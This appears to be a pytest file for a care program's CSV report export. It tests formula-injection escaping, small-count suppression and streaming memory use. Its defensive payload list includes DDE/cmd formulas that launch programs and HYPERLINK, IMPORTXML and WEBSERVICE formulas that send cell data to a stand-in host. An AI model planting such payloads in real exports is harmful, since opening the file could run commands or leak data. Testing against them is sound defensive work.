"""What leaves the house: no formulas, no small numbers, and little memory."""

import csv
import io
import random
import resource
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

import pytest

from aftercare import csv_file
from aftercare.models import CheckIn, ReportExport, Track
from aftercare.record import PORTAL
from aftercare.report import exports, suppression
from aftercare.report.figures import Share
from aftercare.report.suppression import LEAST
from tests import build
from tests.aftercare.report import attacker

AT = datetime(2026, 3, 8, 9, 0, tzinfo=UTC)
ROWS = 100_000
MOST_MB = 256
# What spreadsheets take for the beginning of a formula, or of a cell that begins with one.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  @", "\0=", "\t=")
BODIES = (
    "1+1",
    'cmd|" /C calc"!A0',
    'HYPERLINK("http://example.org/?"&A1,"more")',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "SUM(A1:A9)*2",
    'DDE("cmd";"/C calc";"x")',
    '2+5+cmd|" /C calc"!A0;"',
    "A1&CHAR(10)",
    'WEBSERVICE("http://example.org")',
    '",=1+1',
    "'=1+1",
    "",
)


def cells_of(text: str) -> list[list[str]]:
    """What a spreadsheet reads."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_exp_01_no_text_is_a_formula_in_a_spreadsheet(figure: Callable[[str], None]) -> None:
    payloads = [start + body for start in STARTS for body in BODIES]
    text = "".join(csv_file.lines(header=payloads[:3], rows=[[words, words] for words in payloads]))

    found = [cell for row in cells_of(text) for cell in row]

    formulas = [cell for cell in found if cell.strip(" \0").startswith(csv_file.RISKY)]
    assert formulas == []
    # Nothing was lost but the sign that no file may hold, and no cell became two.
    assert found[3::2] == [f"'{words}".replace("\0", "") for words in payloads]
    figure(f"0 of {len(payloads)} payloads began a formula")


def test_exp_03_a_hidden_cell_cannot_be_worked_out_from_what_is_shown(
    figure: Callable[[str], None], many: Callable[..., int]
) -> None:
    hidden, narrowest = 0, float("inf")
    trials = many(short=15, full=1_000)
    for seed in range(trials):
        roll = random.Random(seed)
        wholes = [int(roll.lognormvariate(3.2, 1)) for _ in range(roll.randint(1, 5))]
        shares = [Share(part=roll.randint(0, whole), whole=whole) for whole in wholes]
        order = sorted(range(len(shares)), key=lambda place: wholes[place])
        total = Share(part=sum(one.part for one in shares), whole=sum(wholes))
        whole = suppression.cell(share=total)
        found = suppression.cells(shares=shares, order=order)
        for cell in (whole, *found):
            assert all(number is None or number >= LEAST for number in (cell.part, cell.whole))
            if cell.part is not None and cell.whole is not None:
                assert cell.whole - cell.part >= LEAST
        if whole.part is None and len(shares) == 1:
            continue
        ranges = attacker.ranges(
            shown=[(cell.part, cell.whole) for cell in found], whole=(whole.part, whole.whole)
        )
        for part, rest, _ in filter(None, ranges):
            hidden += 1
            narrowest = min(narrowest, part[1] - part[0], rest[1] - rest[0])
    assert narrowest >= LEAST - 1
    figure(
        f"{hidden} hidden cells in {trials} tables; the best guess leaves {narrowest:.0f} or more"
    )


@pytest.mark.django_db
def test_exp_03_the_file_of_a_report_holds_no_number_under_11(
    figure: Callable[[str], None],
) -> None:
    program = build.program()
    roll = random.Random(7)
    for track, count in [(Track.MOOD, 26), (Track.TRAUMA, 13), (Track.EATING, 3)]:
        for _ in range(count):
            graduate = build.graduate(program=program, tracks=[track], with_phone=False)
            opens_at = AT - timedelta(days=5)
            came = roll.random() < 0.6
            build.check_in(
                graduate=graduate,
                opens_at=opens_at,
                state=CheckIn.State.ANSWERED if came else CheckIn.State.MISSED,
                answered_at=opens_at + timedelta(hours=2) if came else None,
            )
    report = exports.take_out(
        program=program,
        days=30,
        form=ReportExport.Form.CSV,
        reason="For the yearly report",
        actor=PORTAL,
        at=AT,
    )

    rows = cells_of("".join(exports.as_csv(report=report)))[1:]

    numbers = [float(cell) for row in rows for cell in row[2:5] if cell.replace(".", "").isdigit()]
    assert [number for number in numbers if number < LEAST] == []
    # Everybody's are there, so that the file is not merely empty.
    assert ["People", "Everybody", "42", "", "42"] in [row[:5] for row in rows]
    figure(f"0 of {len(numbers)} numbers in {len(rows)} lines under {LEAST}")


def test_exp_04_a_large_file_stays_small_in_memory(figure: Callable[[str], None]) -> None:
    row: list[csv_file.Value] = ["Reply rate", "words " * 40, 100]
    drawn = 0

    def rows() -> Iterator[list[csv_file.Value]]:
        nonlocal drawn
        for _ in range(ROWS):
            drawn += 1
            yield list(row)

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    lines = size = largest = 0
    for piece in csv_file.lines(header=["x"] * 3, rows=rows()):
        lines += piece.count("\r\n")
        # Nothing is drawn ahead of what has been handed on.
        assert drawn - (lines - 1) == 0
        size += len(piece.encode())
        largest = max(largest, len(piece.encode()))
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024

    assert (lines, drawn) == (ROWS + 1, ROWS)
    assert largest < 2**20
    assert grown < MOST_MB
    figure(
        f"{ROWS:,} rows, {size / 1e6:.0f} MB, in pieces of {largest / 1e6:.1f} MB at most;"
        f" the process grew by {grown:.0f} MB"
    )
